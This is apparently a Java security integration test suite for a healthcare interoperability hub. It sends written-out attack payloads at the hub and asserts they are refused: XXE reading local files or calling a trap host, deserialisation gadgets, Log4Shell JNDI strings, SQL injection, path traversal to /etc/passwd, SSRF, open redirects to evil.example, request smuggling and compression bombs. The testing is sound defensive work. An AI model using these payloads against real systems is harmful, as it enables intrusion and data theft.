package org.yilian.hub.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.yilian.hub.security.Attacker.bytes;
import static org.yilian.hub.security.Attacker.text;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.AppenderBase;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.env.Environment;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.yilian.dicom.UID;
import org.yilian.dicom.net.AssociationRejectedException;
import org.yilian.dicom.net.AssociationRequest;
import org.yilian.dicom.net.DicomClient;
import org.yilian.dicom.net.DimseStatus;
import org.yilian.hub.HubPorts;
import org.yilian.hub.HubTest;

/**
 * What was done to other systems of this field, tried on the whole hub through its real doors. The table in
 * docs/security.md says which test tries which weakness.
 */
@HubTest
class KnownWeaknessesIT {
    private static final String FHIR_XML = "application/fhir+xml";
    private static final String FHIR_JSON = "application/fhir+json";
    private static final String JSON = "application/json";
    private static final String STOW = "multipart/related; type=\"application/dicom\"; boundary=xyz";
    private static final String CANARY = "canary-" + UUID.randomUUID();

    @LocalServerPort
    int port;

    @Autowired
    Environment environment;

    @Autowired
    JdbcClient jdbc;

    @TempDir
    Path outside;

    private Attacker attacker;
    private String h001;

    @BeforeEach
    void come() {
        attacker = new Attacker(port);
        h001 = attacker.token(
                "h001",
                "system/*.cruds system/Subscription.cruds dicomweb.read dicomweb.write recognition.check hl7v2.write");
    }

    @AfterEach
    void nobodyWasCalled() {
        assertThat(attacker.caught()).as("connections the hub was made to open").isEmpty();
        attacker.close();
    }

    @Test
    @DisplayName("CVE-2024-45294, CVE-2024-51132, CVE-2024-52007: XML with entities reads no file and fetches nothing")
    void xmlExternalEntities() throws IOException {
        Path secret = Files.writeString(outside.resolve("secret.txt"), CANARY);
        List<String> declarations = List.of(
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + secret.toUri() + "\">]>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + attacker.trap("http") + "\">]>",
                "<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + attacker.trap("http") + "\"> %p;]>",
                "<!DOCTYPE x SYSTEM \"" + attacker.trap("http") + "\">",
                "<!DOCTYPE x PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"" + attacker.trap("http") + "\">");
        for (String declaration : declarations) {
            String value = declaration.contains("ENTITY e") ? "&e;" : "x";
            String patient =
                    "<Patient xmlns=\"http://hl7.org/fhir\"><id value=\"h001-xxe\"/><text><status value=\"generated\"/>"
                            + "<div xmlns=\"http://www.w3.org/1999/xhtml\">" + value
                            + "</div></text><name><family value=\"" + value
                            + "\"/></name></Patient>";
            String bundle =
                    "<Bundle xmlns=\"http://hl7.org/fhir\"><type value=\"transaction\"/><entry><resource>" + patient
                            + "</resource><request><method value=\"PUT\"/><url value=\"Patient/h001-xxe\"/></request></entry></Bundle>";
            String parameters =
                    "<Parameters xmlns=\"http://hl7.org/fhir\"><parameter><name value=\"resource\"/><resource>"
                            + patient + "</resource></parameter></Parameters>";
            String patch = "<diff><replace sel=\"Patient/name/family/@value\">" + value + "</replace></diff>";
            refused(attacker.send(
                    h001, "PUT", "/fhir/Patient/h001-xxe", bytes(declaration + patient), "Content-Type", FHIR_XML));
            refused(attacker.post(h001, "/fhir/Patient", FHIR_XML, bytes(declaration + patient)));
            refused(attacker.post(h001, "/fhir", FHIR_XML, bytes(declaration + bundle)));
            refused(attacker.post(h001, "/fhir/Patient/$validate", FHIR_XML, bytes(declaration + parameters)));
            refused(attacker.send(
                    h001,
                    "PATCH",
                    "/fhir/Patient/h001-xxe",
                    bytes(declaration + patch),
                    "Content-Type",
                    "application/xml-patch+xml"));
            // The narrative of a JSON resource is XML, too.
            answered(attacker.send(
                    h001,
                    "PUT",
                    "/fhir/Patient/h001-xxe",
                    bytes(
                            "{\"resourceType\":\"Patient\",\"id\":\"h001-xxe\",\"text\":{\"status\":\"generated\",\"div\":\""
                                    + (declaration + "<div xmlns=\"http://www.w3.org/1999/xhtml\">" + value + "</div>")
                                            .replace("\"", "\\\"")
                                    + "\"}}"),
                    "Content-Type",
                    FHIR_JSON));
        }
        answered(attacker.get(h001, "/fhir/Patient/h001-xxe"));
        assertThat(text(attacker.get(h001, "/fhir/Patient/h001-xxe"))).doesNotContain(CANARY, "DOCTYPE");
    }

    @Test
    @DisplayName("XML entity expansion (CVE-2003-1564 and its kin): nothing is expanded")
    void billionLaughs() {
        StringBuilder declaration = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 30; i++) {
            declaration
                    .append("<!ENTITY a")
                    .append(i)
                    .append(" \"&a")
                    .append(i - 1)
                    .append(";&a")
                    .append(i - 1)
                    .append(";\">");
        }
        String laughs = declaration
                + "]><Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"&a29;\"/></name></Patient>";
        refused(attacker.post(h001, "/fhir/Patient", FHIR_XML, bytes(laughs)));
    }

    @Test
    @DisplayName("A resource that could not be read again is not stored")
    void poisonedResources() {
        String id = "h001-poison-" + UUID.randomUUID().toString().substring(0, 8);
        for (String div : List.of(
                "<!DOCTYPE x>",
                "<!DOCTYPE x><div/>",
                "<div",
                "<div><p></div>",
                "x",
                "<?xml version='1.0'?>",
                "<!--",
                "<p>x</p>",
                "]]>",
                "<div>&e;</div>")) {
            answered(attacker.send(
                    h001,
                    "PUT",
                    "/fhir/Patient/" + id,
                    bytes("{\"resourceType\":\"Patient\",\"id\":\"" + id
                            + "\",\"text\":{\"status\":\"generated\",\"div\":\"" + div
                            + "\"},\"contained\":[{\"resourceType\":\"Organization\",\"id\":\"o\",\"text\":{\"status\":\"generated\","
                            + "\"div\":\"" + div + "\"}}],\"managingOrganization\":{\"reference\":\"#o\"}}"),
                    "Content-Type",
                    FHIR_JSON));
            for (String accept : List.of(FHIR_JSON, FHIR_XML)) {
                answered(attacker.get(h001, "/fhir/Patient/" + id, "Accept", accept));
                answered(attacker.get(h001, "/fhir/Patient?_id=" + id, "Accept", accept));
            }
        }
    }

    @Test
    @DisplayName("aECG, CDA and other documents with entities are kept as bytes, never parsed")
    void documentsAreNotParsed() throws IOException {
        Path secret = Files.writeString(outside.resolve("secret.txt"), CANARY);
        String document = "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + secret.toUri() + "\"><!ENTITY % p SYSTEM \""
                + attacker.trap("http") + "\"> %p;]><ClinicalDocument xmlns=\"urn:hl7-org:v3\">&e;</ClinicalDocument>";
        for (String type : List.of("application/hl7-cda+xml", "application/hl7-aecg+xml", "text/xml")) {
            String id = "h001-doc-" + UUID.randomUUID().toString().substring(0, 8);
            HttpResponse<byte[]> put =
                    attacker.send(h001, "PUT", "/fhir/Binary/" + id, bytes(document), "Content-Type", type);
            assertThat(text(put)).doesNotContain(CANARY);
            assertThat(put.statusCode()).isLessThan(500);
            assertThat(text(attacker.get(h001, "/fhir/Binary/" + id, "Accept", type)))
                    .doesNotContain(CANARY);
        }
        HttpResponse<byte[]> v2 = attacker.post(h001, "/hl7v2", "application/hl7-v2+xml", bytes(document));
        assertThat(v2.statusCode()).isEqualTo(415);
    }

    @Test
    @DisplayName(
            "CVE-2023-37679, CVE-2023-43208: no objects are made of what is sent, and nothing is parsed before signing in")
    void deserialisation() {
        byte[] serialized = {(byte) 0xAC, (byte) 0xED, 0, 5, 's', 'r', 0, 1, 'x'};
        byte[] xstream = bytes("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler "
                + "class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>touch"
                + "</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>");
        byte[] polymorphic = bytes("{\"@class\":\"java.net.URL\",\"@type\":\"java.net.URL\",\"val\":\""
                + attacker.trap("http") + "\",\"q\":[\"java.net.URL\",\"" + attacker.trap("http") + "\"]}");
        byte[] yaml = bytes("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\""
                + attacker.trap("http") + "\"]]]]");
        Map<String, byte[]> bodies = Map.of(
                "application/x-java-serialized-object",
                serialized,
                "application/xml",
                xstream,
                JSON,
                polymorphic,
                "application/yaml",
                yaml);
        for (String door : List.of("/fhir", "/fhir/Patient", "/recognition/v1/check", "/cds-services/none", "/hl7v2")) {
            bodies.forEach((type, body) -> {
                assertThat(attacker.post(null, door, type, body).statusCode())
                        .as(door + " before signing in")
                        .isEqualTo(401);
                assertThat(attacker.post(h001, door, type, body).statusCode())
                        .as(door + " with " + type)
                        .isBetween(400, 499);
            });
        }
        Http doctor = Http.user(port, "doctor");
        assertThat(doctor.send("POST", "/api/people/search", JSON, new String(polymorphic, StandardCharsets.UTF_8))
                        .statusCode())
                .isBetween(400, 499);
    }

    @Test
    @DisplayName("CVE-2022-2119, CVE-2022-2120, CVE-2026-56445, CVE-2023-33466: UIDs, ids and names become no paths")
    void pathTraversal() throws IOException {
        Path data = Path.of(environment.getRequiredProperty("hub.data"));
        Set<String> before = outsideOfImages(data);
        for (String uid :
                List.of("../../../../tmp/x", "..\\..\\x", "/etc/passwd", "1.2/../../x", "1.2\u0000.3", "....//x")) {
            for (int which = 0; which < 3; which++) {
                byte[] file = LyingObjects.file(
                        which == 0 ? uid : LyingObjects.uid(),
                        which == 1 ? uid : LyingObjects.uid(),
                        which == 2 ? uid : LyingObjects.uid());
                assertThat(attacker.post(h001, "/dicomweb/studies", STOW, Attacker.multipart(file))
                                .statusCode())
                        .as(uid)
                        .isBetween(400, 499);
            }
            try (DicomClient client =
                    DicomClient.connect(AssociationRequest.to("127.0.0.1", HubPorts.of(environment, "dicom"))
                            .calling("H001PACS")
                            .called("YILIAN")
                            .propose(UID.CTImageStorage, UID.ExplicitVRLittleEndian))) {
                DimseStatus status = client.store(
                        UID.CTImageStorage,
                        uid,
                        UID.ExplicitVRLittleEndian,
                        new ByteArrayInputStream(LyingObjects.dataSet(LyingObjects.uid(), LyingObjects.uid(), uid)));
                assertThat(status.isSuccess()).as(uid).isFalse();
            } catch (IOException | RuntimeException refusedByTheToolkit) {
                // Our own SCU may not send what it is: then nothing was stored either.
            }
        }
        String up = "%2e%2e%2f%2e%2e%2f%2e%2e%2f";
        for (String path : List.of(
                "/dicomweb/studies/" + up + "keys%2ftoken-signing.jwks",
                "/dicomweb/studies/1.2/series/1.3/instances/" + up + "keys%2ftoken-signing.jwks",
                "/viewer/" + up + "application.yaml",
                "/assets/" + up + "application.yaml",
                "/assets/..%5c..%5capplication.yaml",
                "/viewer/..;/..;/api/messages",
                "/fhir/Patient/" + up + "etc%2fpasswd",
                "/fhir/metadata/..;/Patient",
                "/api/messages/" + up)) {
            HttpResponse<byte[]> answer = attacker.get(h001, path);
            assertThat(answer.statusCode()).as(path).isBetween(400, 499);
            assertThat(text(answer)).doesNotContain("\"d\":", "datasource");
            assertThat(attacker.get(null, path).statusCode()).as(path).isBetween(400, 499);
        }
        assertThat(outsideOfImages(data)).isEqualTo(before);
    }

    @Test
    @DisplayName("CVE-2026-50003: an AE title with ../ is known to nobody")
    void pathsAsAeTitles() {
        for (String title : List.of("../../H001PACS", "..\\H001", "H001PACS/..")) {
            assertThat(org.assertj.core.api.Assertions.catchThrowable(() -> DicomClient.connect(
                                    AssociationRequest.to("127.0.0.1", HubPorts.of(environment, "dicom"))
                                            .calling(title.substring(0, Math.min(16, title.length())))
                                            .called("YILIAN")
                                            .propose(UID.CTImageStorage, UID.ExplicitVRLittleEndian))
                            .close()))
                    .isInstanceOfAny(
                            AssociationRejectedException.class, IllegalArgumentException.class, IOException.class);
        }
    }

    @Test
    @DisplayName("Server-side request forgery (CVE-2024-51132, CVE-2026-12473): no address in a request is called")
    void serverSideRequests() {
        String trap = attacker.trap("http");
        for (String body : List.of(
                "{\"resourceType\":\"Subscription\",\"status\":\"requested\",\"reason\":\"x\",\"criteria\":\"Patient?\",\"channel\":"
                        + "{\"type\":\"rest-hook\",\"endpoint\":\"" + trap + "\",\"payload\":\"" + FHIR_JSON + "\"}}",
                "{\"resourceType\":\"Observation\",\"status\":\"final\",\"meta\":{\"profile\":[\"" + trap
                        + "\"]},\"code\":"
                        + "{\"coding\":[{\"system\":\"" + trap + "\",\"code\":\"x\"}]},\"subject\":{\"reference\":\""
                        + trap
                        + "/Patient/1\"}}",
                "{\"resourceType\":\"DocumentReference\",\"status\":\"current\",\"content\":[{\"attachment\":{\"url\":\""
                        + trap + "\"}}]}",
                "{\"resourceType\":\"Endpoint\",\"status\":\"active\",\"connectionType\":{\"code\":\"dicom-wado-rs\"},\"payloadType\""
                        + ":[{\"text\":\"x\"}],\"address\":\"" + trap + "\"}",
                "{\"resourceType\":\"ValueSet\",\"status\":\"active\",\"url\":\"" + trap
                        + "\",\"compose\":{\"include\":" + "[{\"valueSet\":[\"" + trap + "\"]}]}}")) {
            String type = body.substring(17, body.indexOf('"', 17));
            answered(attacker.post(h001, "/fhir/" + type, FHIR_JSON, bytes(body)));
            answered(attacker.post(
                    h001, "/fhir/" + type + "/$validate?profile=" + encode(trap), FHIR_JSON, bytes(body)));
            answered(attacker.post(h001, "/fhir/" + type + "/$validate", FHIR_JSON, bytes(body)));
        }
        for (String path : List.of(
                "/fhir/ValueSet/$expand?url=" + encode(trap),
                "/fhir/CodeSystem/$lookup?system=" + encode(trap) + "&code=x",
                "/fhir/ValueSet/$validate-code?url=" + encode(trap) + "&code=x&system=" + encode(trap),
                "/fhir/ConceptMap/$translate?url=" + encode(trap) + "&code=x&system=" + encode(trap),
                "/fhir/Observation?subject=" + encode(trap + "/Patient/1"),
                "/fhir/Observation?code:in=" + encode(trap),
                "/fhir?_getpages=x&base=" + encode(trap),
                "/dicomweb/studies?includefield=" + encode(trap),
                "/viewer/?url=" + encode(trap))) {
            answered(attacker.get(h001, path));
        }
        answered(attacker.post(
                h001,
                "/cds-services/recognition",
                JSON,
                bytes("{\"hook\":\"order-sign\",\"hookInstance\":\"1\",\"fhirServer\":\"" + trap
                        + "\",\"fhirAuthorization\":{\"access_token\":\"x\",\"token_type\":\"Bearer\",\"scope\":\"x\"},"
                        + "\"context\":{\"userId\":\"Practitioner/1\",\"patientId\":\"1\",\"draftOrders\":{}}}")));
        answered(attacker.post(
                h001,
                "/hl7v2",
                "application/hl7-v2",
                bytes("MSH|^~\\&|HIS|H001|HUB|YL|20260105090000||ORU^R01|SSRF1|P|2.5.1\rPID|1||SSRF1^^^H001^MR||a^b\r"
                        + "OBR|1|P1|F1|B001^x\rOBX|1|RP|X^x||" + trap.replace("&", "") + "^x^TEXT^PDF||||||F")));
    }

    @Test
    @DisplayName("CVE-2026-12473: the viewer's page may connect to nobody but the hub")
    void theViewerConnectsToTheHubOnly() {
        String policy = attacker.get(null, "/viewer/")
                .headers()
                .firstValue("Content-Security-Policy")
                .orElse("");
        assertThat(policy)
                .contains("default-src 'none'", "connect-src 'self'", "base-uri 'none'", "form-action 'self'");
    }

    @Test
    @DisplayName("CVE-2023-33466: what one sender stores is not overwritten by another, nor by itself")
    void overwritingByUpload() throws IOException {
        String study = LyingObjects.uid();
        String series = LyingObjects.uid();
        String object = LyingObjects.uid();
        assertThat(attacker.post(
                                h001,
                                "/dicomweb/studies",
                                STOW,
                                Attacker.multipart(LyingObjects.file(study, series, object)))
                        .statusCode())
                .isEqualTo(200);
        String path = "/dicomweb/studies/" + study + "/series/" + series + "/instances/" + object;
        byte[] first = attacker.get(h001, path).body();
        byte[] other = LyingObjects.file(study, series, object, 7);
        String h002 = attacker.token("h002", "dicomweb.read dicomweb.write");
        for (String who : List.of(h001, h002)) {
            attacker.post(who, "/dicomweb/studies", STOW, Attacker.multipart(other));
            assertThat(LyingObjects.pixels(attacker.get(h001, path).body())).isEqualTo(LyingObjects.pixels(first));
        }
        // FHIR: another hospital's record is not written, not even when its id is asked for by create.
        attacker.send(
                h001,
                "PUT",
                "/fhir/Patient/h001-mine",
                bytes("{\"resourceType\":\"Patient\",\"id\":\"h001-mine\"}"),
                "Content-Type",
                FHIR_JSON);
        String h002fhir = attacker.token("h002", "system/*.cruds");
        assertThat(attacker.send(
                                h002fhir,
                                "PUT",
                                "/fhir/Patient/h001-mine",
                                bytes("{\"resourceType\":\"Patient\",\"id\":\"h001-mine\",\"gender\":\"male\"}"),
                                "Content-Type",
                                FHIR_JSON)
                        .statusCode())
                .isEqualTo(403);
    }

    @Test
    @DisplayName("CVE-2026-5437 and following: gzip bombs, lying lengths and header bombs are refused small")
    void bombs() throws IOException {
        byte[] patient = bytes("{\"resourceType\":\"Patient\",\"gender\":\"male\"}");
        assertThat(attacker.post(
                                h001,
                                "/fhir/Patient",
                                FHIR_JSON,
                                Attacker.gzip(patient, 10),
                                "Content-Encoding",
                                "gzip")
                        .statusCode())
                .as("gzip itself is welcome")
                .isEqualTo(201);
        byte[] bomb = Attacker.gzip(patient, 200 << 20);
        assertThat(bomb.length).isLessThan(1 << 20);
        for (String door : List.of("/fhir/Patient", "/fhir", "/recognition/v1/check")) {
            assertThat(attacker.post(h001, door, FHIR_JSON, bomb, "Content-Encoding", "gzip")
                            .statusCode())
                    .as(door)
                    .isIn(413, 415);
        }
        assertThat(attacker.post(h001, "/fhir/Patient", FHIR_JSON, patient, "Content-Encoding", "br")
                        .statusCode())
                .isEqualTo(415);
        assertThat(attacker.post(h001, "/fhir/Patient", FHIR_JSON, patient, "Content-Encoding", "gzip")
                        .statusCode())
                .isEqualTo(400);
        String lie =
                attacker.raw("POST /fhir/Patient HTTP/1.1\r\nHost: localhost:" + port + "\r\nAuthorization: Bearer "
                        + h001 + "\r\nContent-Type: " + FHIR_JSON + "\r\nContent-Length: 99999999999\r\n\r\n{");
        assertThat(lie).startsWith("HTTP/1.1 413");
        HttpResponse<byte[]> stowed = attacker.post(
                h001, "/dicomweb/studies", STOW, Attacker.multipart(LyingObjects.deflatedHeaderBomb(256 << 20)));
        assertThat(stowed.statusCode()).as("a deflated header of 256 MB").isBetween(400, 499);
        String study = LyingObjects.uid();
        String series = LyingObjects.uid();
        String object = LyingObjects.uid();
        attacker.post(
                h001, "/dicomweb/studies", STOW, Attacker.multipart(LyingObjects.hugeClaim(study, series, object)));
        String path = "/dicomweb/studies/" + study + "/series/" + series + "/instances/" + object;
        for (String what : List.of("/rendered", "/frames/1", "/frames/1/rendered", "/thumbnail")) {
            HttpResponse<byte[]> answer = attacker.get(h001, path + what);
            assertThat(answer.statusCode()).as(what).isBetween(400, 499);
        }
        String nested = "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000);
        assertThat(attacker.post(h001, "/recognition/v1/check", JSON, bytes(nested))
                        .statusCode())
                .isBetween(400, 499);
        assertThat(attacker.post(h001, "/fhir/Patient", FHIR_JSON, bytes(nested))
                        .statusCode())
                .isBetween(400, 499);
    }

    @Test
    @DisplayName("SQL injection: what is asked for is bound, never spoken")
    void sqlInjection() throws IOException {
        Http operator = Http.user(port, "operator");
        Http planner = Http.user(port, "planner");
        Http auditor = Http.user(port, "auditor");
        Http doctor = Http.user(port, "doctor");
        for (String word : List.of(
                "' or '1'='1", "x'; drop table yh_audit; --", "1) or (1=1", "\\' or 1=1 --", "x' union select 1 --")) {
            String value = encode(word);
            nothing(attacker.get(h001, "/fhir/Patient?family=" + value + "&_summary=count"), "\"total\":0", word);
            answered(attacker.get(h001, "/fhir/Patient?_sort=" + value));
            answered(attacker.get(h001, "/fhir/Patient?_id=" + value + "&_count=" + value));
            answered(attacker.get(h001, "/fhir/Observation?" + value + "=x"));
            nothing(attacker.get(h001, "/dicomweb/studies?PatientName=" + value), "[]", word);
            answered(attacker.get(h001, "/dicomweb/studies?" + value + "=1&limit=" + value));
            answered(attacker.get(h001, "/dicomweb/studies?StudyDate=" + value));
            for (String path :
                    List.of("?facility=", "?type=", "?controlId=", "?errorCode=", "?state=", "?before=", "?from=")) {
                assertThat(operator.get("/api/messages" + path + value).statusCode())
                        .as(path)
                        .isLessThan(500);
            }
            assertThat(operator.get("/api/messages?controlId=" + value).body()).doesNotContain("\"id\":");
            assertThat(operator.get("/api/deliveries?destination=" + value).statusCode())
                    .isLessThan(500);
            assertThat(operator.get("/api/imaging/quarantine?state=" + value).statusCode())
                    .isLessThan(500);
            assertThat(planner.get("/api/reports/sharing?from=" + value + "&to=" + value + "&format=" + value)
                            .statusCode())
                    .isBetween(400, 499);
            assertThat(auditor.get("/fhir/AuditEvent?agent-name=" + value).body())
                    .contains("\"total\":0");
            assertThat(auditor.get("/fhir/AuditEvent?action=" + value + "&outcome=" + value)
                            .body())
                    .contains("\"total\":0");
            assertThat(doctor.send("POST", "/api/people/search", JSON, "{\"q\":\"" + word.replace("\\", "\\\\") + "\"}")
                            .body())
                    .isEqualTo("{\"items\":[]}");
            assertThat(doctor.get("/api/people/" + value + "/timeline").statusCode())
                    .isBetween(400, 499);
        }
        assertThat(jdbc.sql("select count(*) from yh_audit").query(Long.class).single())
                .isPositive();
    }

    @Test
    @DisplayName("CVE-2021-44228 and template injection: ${...}, #{...} and {{...}} are text")
    void templateInjection() throws IOException {
        String jndi = "${jndi:" + attacker.trap("ldap") + "}";
        for (String word : List.of(
                jndi,
                "${7*7}",
                "#{7*7}",
                "{{7*7}}",
                "*{7*7}",
                "${{7*7}}",
                "T(java.lang.Runtime)",
                "${sys:user.home}",
                "${header.CamelFileName}")) {
            String value = encode(word);
            for (String path : List.of(
                    "/fhir/Patient?family=", "/dicomweb/studies?PatientID=", "/api/", "/viewer/?x=", "/login?error=")) {
                HttpResponse<byte[]> answer = attacker.get(
                        h001,
                        path + value,
                        "User-Agent",
                        word,
                        "X-Request-Id",
                        word,
                        "Referer",
                        word,
                        "Accept-Language",
                        word);
                assertThat(answer.statusCode()).as(path + word).isLessThan(500);
                assertThat(text(answer).replaceAll("[0-9]{3,}", ""))
                        .doesNotContain(">49<", "\"49\"", System.getProperty("user.home") + "/");
            }
            String message = "MSH|^~\\&|HIS|H001|HUB|YL|20260105090000||ADT^A04|T" + Math.abs(word.hashCode())
                    + "|P|2.5.1\rEVN||20260105090000\rPID|1||" + word + "^^^H001^MR||" + word + "^" + word;
            assertThat(mllp(message)).contains("MSA|A");
        }
    }

    @Test
    @DisplayName("Open redirect: nobody is sent elsewhere")
    void openRedirects() {
        for (String path : List.of(
                "/login?continue=https://evil.example/",
                "/login?redirect_uri=https://evil.example/",
                "/logout?redirect=https://evil.example/",
                "/oauth2/authorize?client_id=h001&response_type=code&redirect_uri=https://evil.example/",
                "//evil.example/%2e%2e",
                "/%5cevil.example",
                "/viewer?x=//evil.example",
                "/viewer",
                "/share/x?next=https://evil.example/",
                "/?url=https://evil.example/")) {
            HttpResponse<byte[]> answer = attacker.get(null, path);
            assertThat(answer.headers().firstValue("Location").orElse("/"))
                    .as(path)
                    .matches("/[^/\\\\].*|/|http://localhost:" + port + "/.*")
                    .doesNotContain("evil.example/");
        }
        String split = attacker.raw("GET /viewer%0d%0aSet-Cookie:%20evil=1 HTTP/1.1\r\nHost: localhost:" + port
                + "\r\nConnection: close\r\n\r\n");
        assertThat(split).doesNotContainIgnoringCase("\nset-cookie: evil");
    }

    @Test
    @DisplayName("Log injection (CWE-117): no caller begins a line of the log")
    void logInjection() throws IOException {
        List<String> lines = new CopyOnWriteArrayList<>();
        AppenderBase<ILoggingEvent> appender = new AppenderBase<>() {
            @Override
            protected void append(ILoggingEvent event) {
                lines.add(event.getFormattedMessage());
            }
        };
        Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        appender.start();
        root.addAppender(appender);
        try {
            String forged = "x\r\n12:00:00.000 INFO  forged " + CANARY + "\u001b[31m";
            Http somebody = new Http(port);
            somebody.get("/api/me");
            somebody.login(forged, forged);
            attacker.get(h001, "/fhir/Patient?family=" + encode(forged));
            attacker.get(h001, "/fhir/" + encode(forged));
            attacker.get(h001, "/dicomweb/studies?" + encode(forged) + "=" + encode(forged));
            attacker.get(h001, "/api/" + encode(forged));
            attacker.post(h001, "/fhir/Patient", FHIR_JSON, bytes("{\"resourceType\":\"" + CANARY + "\\r\\n\"}"));
            attacker.post(h001, "/dicomweb/studies", STOW, Attacker.multipart(bytes(forged)));
            new Http(port)
                    .form("/oauth2/token", Map.of("grant_type", forged, "client_id", forged, "client_secret", forged));
            mllp("MSH|^~\\&|HIS|H001|HUB|YL|20260105090000||ADT^"
                    + forged.replace("\r", "\\X0D\\").replace("\n", "\\X0A\\") + "|" + CANARY + "|P|2.5.1");
            mllp("MSH|^~\\&|HIS|" + forged.replace('\r', ' ') + "|HUB|YL|20260105090000||ADT^A01|" + CANARY
                    + "|P|2.5.1");
        } finally {
            root.detachAppender(appender);
        }
        assertThat(lines).noneMatch(line -> line.contains(CANARY) || line.contains("\u001b"));
    }

    @Test
    @DisplayName("Request smuggling (CWE-444): where a message ends is read in one way")
    void requestSmuggling() {
        String head =
                "POST /fhir/Patient HTTP/1.1\r\nHost: localhost:" + port + "\r\nContent-Type: " + FHIR_JSON + "\r\n";
        assertThat(attacker.raw(head + "Content-Length: 2\r\nContent-Length: 60\r\n\r\n{}"))
                .startsWith("HTTP/1.1 400");
        assertThat(attacker.raw(head + "Transfer-Encoding: xchunked\r\nContent-Length: 2\r\n\r\n{}"))
                .matches("(?s)HTTP/1.1 (400|501).*");
        assertThat(attacker.raw(head + "Transfer-Encoding : chunked\r\nContent-Length: 2\r\n\r\n{}"))
                .startsWith("HTTP/1.1 400");
        // Chunked holds: the length would have the server wait for bytes that never come.
        assertThat(attacker.raw(
                        head + "Transfer-Encoding: chunked\r\nContent-Length: 6000\r\n\r\n2\r\n{}\r\n0\r\n\r\n"))
                .startsWith("HTTP/1.1 401");
        assertThat(attacker.raw(head + "Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{}"))
                .matches("(?s)HTTP/1.1 4.*");
    }

    @Test
    @DisplayName("CVE-2019-11687: a file that is DICOM and a program is handed out as DICOM only")
    void preambles() throws IOException {
        String study = LyingObjects.uid();
        String series = LyingObjects.uid();
        String object = LyingObjects.uid();
        byte[] program = LyingObjects.file(study, series, object);
        System.arraycopy(bytes("MZ" + "\u0090".repeat(10)), 0, program, 0, 12);
        attacker.post(h001, "/dicomweb/studies", STOW, Attacker.multipart(program));
        HttpResponse<byte[]> answer =
                attacker.get(h001, "/dicomweb/studies/" + study + "/series/" + series + "/instances/" + object);
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(new String(answer.body(), StandardCharsets.ISO_8859_1)).doesNotContain("\r\n\r\nMZ");
    }

    @Test
    @DisplayName("CVE-2025-0896: nothing is open on a fresh hub")
    void nothingIsOpen() throws IOException {
        for (String door : List.of(
                "/fhir/Patient",
                "/fhir",
                "/dicomweb/studies",
                "/api/people?q=x",
                "/api/messages",
                "/api/audit/verification",
                "/api/audit/anchors",
                "/api/reports/sharing",
                "/actuator",
                "/actuator/env",
                "/actuator/heapdump",
                "/cds-services",
                "/recognition/v1/check",
                "/api/region",
                "/h2-console",
                "/error",
                "/swagger-ui",
                "/fhir/swagger-ui/")) {
            assertThat(attacker.get(null, door).statusCode()).as(door).isIn(401, 403, 404);
        }
        for (String door : List.of("/actuator/env", "/actuator/heapdump", "/h2-console", "/api/unheard-of")) {
            assertThat(attacker.get(h001, door).statusCode()).as(door).isIn(403, 404);
        }
    }

    private void refused(HttpResponse<byte[]> answer) {
        assertThat(answer.statusCode()).as(text(answer)).isBetween(400, 499);
        assertThat(text(answer)).doesNotContain(CANARY);
    }

    private void answered(HttpResponse<byte[]> answer) {
        assertThat(answer.statusCode()).as(text(answer)).isLessThan(500);
        assertThat(text(answer)).doesNotContain(CANARY);
    }

    /** Not a fault, and if it was understood, then as a word nobody has. */
    private void nothing(HttpResponse<byte[]> answer, String empty, String word) {
        assertThat(answer.statusCode()).as(word).isLessThan(500);
        if (answer.statusCode() == 200) {
            assertThat(text(answer)).as(word).contains(empty);
        }
    }

    private String mllp(String message) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", HubPorts.of(environment, "mllp"))) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(("\u000B" + message + "\u001C\r").getBytes(StandardCharsets.UTF_8));
            socket.getOutputStream().flush();
            InputStream in = socket.getInputStream();
            StringBuilder answer = new StringBuilder();
            for (int c = in.read(); c >= 0 && c != 0x1C; c = in.read()) {
                answer.append((char) c);
            }
            return answer.toString();
        }
    }

    private static Set<String> outsideOfImages(Path data) throws IOException {
        try (Stream<Path> files = Files.walk(data)) {
            return files.map(file -> data.relativize(file).toString())
                    .filter(name -> !name.startsWith("images") && !name.startsWith("db"))
                    .collect(Collectors.toSet());
        }
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
